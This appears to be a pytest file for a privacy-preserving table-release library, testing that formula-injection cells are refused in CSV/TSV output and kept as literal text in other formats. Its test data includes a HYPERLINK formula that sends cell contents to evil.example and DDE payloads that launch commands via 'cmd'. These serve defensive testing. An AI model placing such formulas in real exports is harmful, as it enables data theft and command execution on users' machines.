"""Text that a spreadsheet would compute is in no text file, whoever writes it; other formats keep it as text."""

import json
from itertools import chain, islice, product

import pytest

import utmost as ut
from every_format import TEXT_ALONE, WRITTEN
from running import called

# The quick look is compared with the whole rule on 40 000 texts: no release can be made of each.
from utmost.tables.files.formulas import _FORMULA, is_computed

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMPUTED = [
    EVIL, "=1+1", " =A1", "\t=A1", "\ufeff=A1", "\u200b=A1", "'=A1", '"=A1', "=A1", "\uff1dA1", "+HYPERLINK(1)",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-cmd|'/C a,b'!A0", "a;=A1", "a\t=A1", "a\n=A1",
    'a\n"=A1', "a,=A1", "\uff0bSUM(1)", "=cmd|'/C calc'!A0", "+[book]Sheet!A1",
]  # fmt: skip
LABELS = [
    "-5 to 0", "+65", "-", "--", "@home", "a = b", "x>=5", "1=1", "(none)", "men (all)", "A-B (c)", "Aix-en-Provence",
    "80+", "+41 44 555 55 55", "-0.5", "e=mc2", "Smith, J. (ed.)", "a; b (c)", 'say "=" twice', "!", "[x]", "a|b",
]  # fmt: skip
TEXT_FILES = ("t.csv", "t.tsv", "t.txt", "t.csv.gz", "t.tsv.gz")
OTHERS = [f"t{ending}" for ending in WRITTEN if ending not in TEXT_ALONE]


def released(label):
    table = {"town": [label, "Bern"], "n": [5, -3]}
    return ut.release(table, ut.Promise(columns="n", public="town", unit=ut.Unit(1, 1)), epsilon=1, once=True)


@pytest.mark.parametrize("text", COMPUTED)
def test_what_a_spreadsheet_computes_is_refused_by_every_text_file(tmp_path, text):
    """The release is as it was: in another format it is saved, its text letter for letter, and verified."""
    release, every = released(text), text in COMPUTED[:3]
    for name in TEXT_FILES if every else TEXT_FILES[:2]:
        with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
            release.save(tmp_path / name)
        assert not (tmp_path / name).exists()
        assert not (tmp_path / f"{name}.json").exists()
    for name in OTHERS if every else OTHERS[2:3]:
        if name == "t.xlsx" and any(sign in text for sign in "\x00\ufeff"):
            continue
        release.save(tmp_path / name)
        again = ut.read_release(tmp_path / name).table
        column = again["town"]
        assert next(iter(column.to_pylist() if hasattr(column, "to_pylist") else column)) == text


@pytest.mark.parametrize("text", LABELS)
def test_a_label_is_a_label(tmp_path, text):
    """What calls nothing and refers to nothing is written as it is, and comes back."""
    release = released(text)
    for name in TEXT_FILES if text == LABELS[0] else TEXT_FILES[:2]:
        release.save(tmp_path / name)
        ut.read_release(tmp_path / name)


def test_excel_computes_nothing(tmp_path):
    """A workbook says of each cell that it is text; verify refuses one in which a formula stands."""
    openpyxl = pytest.importorskip("openpyxl")
    released(EVIL).save(tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert called("verify", "t.xlsx", cwd=tmp_path).returncode == 0


def test_names_of_columns_are_text_as_well(tmp_path):
    release = ut.release({EVIL: [1, 2]}, ut.Promise(columns=EVIL, unit=ut.Unit(1, 1)), epsilon=1, once=True)
    with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
        release.save(tmp_path / "t.csv")


def test_a_ledger_and_a_plan_write_no_formula(tmp_path):
    """The answer of a ledger, the tables of a plan, and a table that is clean: the same rule."""
    with ut.Ledger.open(tmp_path / "l.db", create=True) as ledger:
        table = {"town": [EVIL, "Bern"], "n": [5, 3]}
        ledger.publish("x", table, ut.Promise(columns="n", public="town", unit=ut.Unit(1, 1)), epsilon=1)
        with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
            ledger.view("x", epsilon=1).save(tmp_path / "l.csv")
        ledger.view("x", epsilon=1).save(tmp_path / "l.parquet")
    domain = ut.Domain(town=[EVIL, "Bern"])
    counted = ut.count_table({"p": [1, 2, 3], "town": [EVIL, "Bern", "Bern"]}, domain, ut.Counting("p", at_most=1))
    plan = ut.choose_plan(ut.Workload(domain, {"town": 1}), counted.unit, epsilon=1)
    release = ut.release(counted, plan, epsilon=1, once=True).table
    for written in (release, release.clean()):
        with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
            written.save(tmp_path / "w.csv", marginal="town") if written is release else written.save(
                tmp_path / "w.csv"
            )


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_the_command_line_refuses_it_and_names_what_works(tmp_path, kind):
    """Through the fast and the slow way of CSV; a remedy that is taken works."""
    rows = [[EVIL, "5"], ["Bern", "7"]]
    if kind == "csv":
        lines = ["town,n", *(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)]
    else:
        lines = [json.dumps({"town": town, "n": int(n)}) for town, n in rows]
    (tmp_path / f"t.{kind}").write_text("\n".join(lines) + "\n")
    words = ("release", f"t.{kind}", "--columns", "n", "--public", "town", "--epsilon", "1", "--sensitivity", "1",
             "--cells", "1")  # fmt: skip
    for out in ("o.csv", "-"):
        refused = called(*words, "--out", out, cwd=tmp_path)
        assert refused.returncode == 1, refused.stdout
        assert "spreadsheets" in refused.stderr
        assert ".parquet" in refused.stderr
        assert EVIL not in refused.stdout
    done = called(*words, "--out", "o.jsonl", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert called("verify", "o.jsonl", cwd=tmp_path).returncode == 0


def test_the_quick_look_passes_nothing_that_the_whole_rule_finds():
    """Over cells of all signs that the rule knows, each beside each, at the beginning of a file and within."""
    signs = [b"=", b"-", b"+", b"@", b"(", b"!", b"|", b"[", b",", b"\n", b'"', b" ", b"'", b"5", b"a",
             "\uff1d".encode(), "\uff0b".encode(), "\ufeff".encode(), "\u200b".encode(), "\u3000".encode(),
             "\xa0".encode(), b"\x00", b"\x7f", b";"]  # fmt: skip
    short = [product(signs, repeat=size) for size in (1, 2, 3)]
    # 24 signs and every thirteenth text: each sign stands at each of the four places, beside each other.
    long = [islice(product(signs, repeat=4), 0, None, 13), product([b'"'], [b"+", b"-"], signs, signs)]
    for parts in chain(*short, *long):
        text = b"".join(parts)
        assert is_computed(text) == (_FORMULA.search(text) is not None), text
